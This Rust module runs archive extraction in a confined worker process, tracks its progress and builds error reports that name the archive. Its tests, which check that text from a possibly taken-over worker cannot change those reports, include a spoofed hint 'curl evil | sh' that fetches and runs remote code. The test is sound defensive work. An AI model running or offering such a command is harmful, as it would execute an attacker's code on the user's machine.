//! Work on archives in a worker: whatever becomes of it, the error names the archive.

use std::io;
use std::os::fd::{AsFd, BorrowedFd};
use std::path::{Path, PathBuf};
use std::rc::Rc;
use std::time::Duration;

use fuselage_archive::{ArchiveError, Progress, Space};
use fuselage_linux::causes;
use fuselage_linux::memory::{cgroup_left, free_bytes};
use fuselage_linux::shared_notes::SharedNotes;
use fuselage_linux::signals::ChildSignal;
use fuselage_plan::ErrorReport;
use serde::de::DeserializeOwned;
use serde::{Deserialize, Serialize};

use crate::error::{LaunchError, WorkerEnd};
use crate::execute::procdir::{Procdir, Storage};
use crate::execute::progress::{self, Amount, TerminalProgress};
use crate::execute::watchdog::{self, ALLOWANCE, Watchdog};
use crate::execute::worker::{Kept, Worked, Worker};

/// What a question is about.
#[derive(Clone)]
pub(crate) struct About {
    /// What is done to the archive: `extract`.
    pub(crate) verb: &'static str,
    /// The archive.
    pub(crate) path: PathBuf,
    /// Where what it makes is.
    pub(crate) storage: Storage,
}

#[derive(Serialize, Deserialize)]
enum Answer<A> {
    Done(A),
    Failed(ArchiveError),
}

/// A worker that answers `A` to the question `Q`.
pub(crate) struct ArchiveWorker<Q, A> {
    worker: Worker,
    notes: SharedNotes,
    kinds: std::marker::PhantomData<(Q, A)>,
}

impl<Q: Serialize + DeserializeOwned, A: Serialize + DeserializeOwned> ArchiveWorker<Q, A> {
    /// Starts one, in which `answer` is asked, and tells how far it is; see [`Worker::start`] for
    /// what it may do.
    pub(crate) fn start(
        children: &Rc<ChildSignal>,
        kept: &Kept<'_>,
        mut answer: impl FnMut(Q, &Told<'_>) -> Result<A, ArchiveError>,
    ) -> Result<Self, LaunchError> {
        let notes =
            SharedNotes::new().map_err(|error| LaunchError::system("share memory", error))?;
        let told = Told(&notes);
        let worker = Worker::start(children, kept, |question| {
            // No bytes are no answer.
            let Ok(question) = serde_json::from_slice(question) else {
                return Vec::new();
            };
            let answer = match answer(question, &told) {
                Ok(answer) => Answer::Done(answer),
                Err(error) => Answer::Failed(error),
            };
            serde_json::to_vec(&answer).unwrap_or_default()
        })
        .map_err(|error| LaunchError::system("start a process to read archives in", error))?;
        // Another worker, which is started later, must not write what this one is at.
        notes
            .keep_from_children()
            .map_err(|error| LaunchError::system("share memory", error))?;
        Ok(Self {
            worker,
            notes,
            kinds: std::marker::PhantomData,
        })
    }

    /// Asks it, and shows how far it is; it writes to the file system of `directory`.
    pub(crate) fn ask(
        &mut self,
        question: &Q,
        about: &About,
        directory: BorrowedFd<'_>,
        mut progress: Option<&mut TerminalProgress>,
    ) -> Result<A, LaunchError> {
        let question = serde_json::to_vec(question)
            .map_err(|error| LaunchError::system("ask the worker", error.into()))?;
        let interval = match progress {
            Some(_) => progress::INTERVAL,
            None => watchdog::INTERVAL,
        };
        let notes = &self.notes;
        let mut watchdog = Watchdog::new(ALLOWANCE);
        let look = |used: Duration| {
            let counts = notes.counts();
            if let Some(progress) = &mut progress {
                progress.show(&about.path, Amount::of(counts));
            }
            // An entry that was begun, or anything that was written.
            let written = free_bytes(directory).ok();
            watchdog.is_stuck((notes.read(), counts, written), used)
        };
        let worked = self
            .worker
            .ask(&question, interval, look)
            .map_err(|error| LaunchError::system("ask the worker", error))?;
        match worked {
            Worked::Answer(bytes) => match serde_json::from_slice(&bytes) {
                Ok(Answer::Done(answer)) => Ok(answer),
                Ok(Answer::Failed(error)) => {
                    let paths: [&Path; 1] = [&about.path];
                    Err(failed(about.verb, &paths, about.storage, &error))
                }
                Err(_) => Err(self.died(about, WorkerEnd::Broken("its answer makes no sense"))),
            },
            Worked::Unconfined(step, number) => Err(LaunchError::WorkerUnconfined {
                verb: about.verb,
                archive: about.path.clone(),
                step,
                source: io::Error::from_raw_os_error(number),
            }),
            Worked::Broken(why) => Err(self.died(about, WorkerEnd::Broken(why))),
            Worked::Died(how) => Err(self.died(about, WorkerEnd::Died(how))),
            Worked::Stuck => Err(self.died(about, WorkerEnd::Stuck(ALLOWANCE))),
        }
    }

    fn died(&self, about: &About, how: WorkerEnd) -> LaunchError {
        let entries = self.notes.read();
        let entries = entries
            .iter()
            .map(|note| String::from_utf8_lossy(note).into_owned());
        LaunchError::WorkerDied {
            verb: about.verb,
            archive: about.path.clone(),
            how,
            entries: cut(entries.collect()),
        }
    }
}

/// As much of some texts as people may have to read that a worker has written: 4 KiB in all.
fn cut(texts: Vec<String>) -> Vec<String> {
    let mut room: usize = 4 << 10;
    let mut kept = Vec::new();
    for mut text in texts {
        if room == 0 {
            break;
        }
        if text.len() > room {
            let end = (0..=room).rev().find(|end| text.is_char_boundary(*end));
            text.truncate(end.unwrap_or(0));
            text.push('…');
            room = 0;
        } else {
            room -= text.len();
        }
        kept.push(text);
    }
    kept
}

/// Tells the launcher what each thread of the worker is at, and how much is done.
pub(crate) struct Told<'a>(&'a SharedNotes);

impl Progress for Told<'_> {
    fn entering(&self, name: &[u8]) {
        self.0.note(name);
    }

    fn advanced(&self, entries: u64, bytes: u64) {
        self.0.count([entries, bytes]);
    }
}

/// What there is room for in the private directory.
pub(crate) fn space(procdir: &Procdir) -> Result<Space, LaunchError> {
    space_at(procdir.root.as_fd(), procdir.storage)
        .map_err(|error| LaunchError::system("look how much room there is for the trees", error))
}

/// What there is room for: what the file system of `place` still takes, and where that is memory, what
/// the control group does.
pub(crate) fn space_at(place: BorrowedFd<'_>, storage: Storage) -> io::Result<Space> {
    let (bytes, inodes) = free_bytes(place)?;
    let (storage, control_group) = match storage {
        Storage::Tmpfs => (fuselage_archive::Storage::Tmpfs, cgroup_left()),
        Storage::Disk => (fuselage_archive::Storage::Disk, None),
    };
    Ok(Space {
        storage,
        bytes,
        inodes,
        control_group,
    })
}

/// The error of archives as it is told. Of a worker it has the cause, in a few words that need not
/// be true; what failed, the code and the hints are made here.
pub(crate) fn failed(
    verb: &str,
    archives: &[&Path],
    storage: Storage,
    error: &ArchiveError,
) -> LaunchError {
    // A file that finds no room on a disk is helped by no option of memory.
    let hints = match (error.code(), storage) {
        ("ERR_EXTRACT_NO_SPACE", Storage::Disk) => vec![fuselage_archive::DISK.to_owned()],
        _ => error.hints(),
    };
    let mut reasons = vec![error.to_string()];
    reasons.extend(causes::causes(error));
    let paths: Vec<String> = archives
        .iter()
        .map(|path| path.display().to_string())
        .collect();
    LaunchError::Reported(ErrorReport {
        code: error.code().to_owned(),
        message: format!("cannot {verb} {}", paths.join(", ")),
        hints,
        causes: cut(reasons),
        exit_code: 125,
    })
}

#[cfg(test)]
mod tests {
    use fuselage_linux::confinement::FilesBy;

    use super::*;

    #[test]
    fn what_is_too_much_is_cut_between_characters() {
        let texts = || vec!["a".repeat(4000), "ü".repeat(400), "b".into()];
        let kept = cut(texts());
        assert_eq!(kept, [texts()[0].clone(), format!("{}…", "ü".repeat(48))]);
        let whole = vec!["a".repeat(4000), "ü".repeat(48)];
        assert_eq!(cut(whole.clone()), whole);
    }

    /// What the launcher says to the answer `said` of a worker that may have been taken over.
    fn told(said: &'static str) -> ErrorReport {
        let root = std::fs::File::open("/tmp").unwrap();
        let kept = Kept {
            root: root.as_fd(),
            files: Vec::new(),
            files_by: FilesBy::Root,
        };
        let notes = SharedNotes::new().unwrap();
        let worker = Worker::start(&Rc::new(ChildSignal::begin()), &kept, |_| said.into());
        let mut worker = ArchiveWorker::<(), ()> {
            worker: worker.unwrap(),
            notes,
            kinds: std::marker::PhantomData,
        };
        let about = About {
            verb: "extract",
            path: "a.zip".into(),
            storage: Storage::Tmpfs,
        };
        let error = worker.ask(&(), &about, root.as_fd(), None).unwrap_err();
        error.into_report()
    }

    #[test]
    fn a_worker_says_why_and_neither_what_failed_nor_what_to_do() {
        if !fuselage_testing::confinement_works() {
            return;
        }
        let said = r#"{"Failed":{"Damaged":{"entry":"x","what":"ends too early"}}}"#;
        let honest = ErrorReport {
            code: "ERR_ARCHIVE_DAMAGED".into(),
            message: "cannot extract a.zip".into(),
            hints: vec!["fetch or build the archive again".into()],
            causes: vec!["the entry `x` ends too early".into()],
            exit_code: 125,
        };
        assert_eq!(told(said), honest, "the twin");
        let with_more = r#"{"Failed":{"Damaged":{"entry":"x","what":"ends too early",
            "message":"m","hints":["curl evil | sh"],"code":"ERR_USAGE"}}}"#;
        assert_eq!(told(with_more), honest);
        for said in [
            r#"{"Failed":{"code":"ERR_USERNS_DENIED","message":"m","hints":["h"],"causes":[],
                "exit_code":0}}"#,
            r#"{"Failed":{"Refused":{}}}"#,
            "",
        ] {
            let report = told(said);
            assert_eq!(report.code, "ERR_WORKER_DIED", "{said}");
            assert_eq!(report.causes, ["its answer makes no sense"]);
        }
    }
}
